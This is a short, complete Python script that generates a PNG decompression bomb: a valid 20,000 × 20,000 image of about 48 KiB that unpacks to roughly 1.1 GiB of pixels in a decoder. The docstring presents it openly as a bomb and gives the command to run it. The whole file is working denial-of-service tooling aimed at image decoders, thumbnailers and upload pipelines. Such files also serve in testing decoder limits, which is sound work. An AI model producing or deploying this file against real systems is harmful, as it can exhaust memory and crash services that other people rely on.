#!/usr/bin/env python3
"""Writes bomb.png: 48 KiB that unpack to 1.1 GiB of pixels.

A real PNG, valid to its last byte: 20,000 × 20,000 pixels with a palette of
one bit, all of the first colour. Fifty million zero bytes deflate a thousand
to one, and each bit becomes three bytes of RGB in a decoder. Needs Python's
own library only:

    python3 make-bomb.py bomb.png
"""

import struct
import sys
import zlib

SIDE = 20_000


def chunk(kind: bytes, body: bytes) -> bytes:
    """One PNG chunk: length, kind, body, checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


row = b"\0" * (1 + SIDE // 8)  # filter "none", then one bit a pixel
header = struct.pack(">IIBBBBB", SIDE, SIDE, 1, 3, 0, 0, 0)
with open(sys.argv[1], "wb") as out:
    out.write(b"\x89PNG\r\n\x1a\n")
    out.write(chunk(b"IHDR", header))
    out.write(chunk(b"PLTE", b"\x30\x60\x90\xff\xff\xff"))
    out.write(chunk(b"IDAT", zlib.compress(row * SIDE, 9)))
    out.write(chunk(b"IEND", b""))
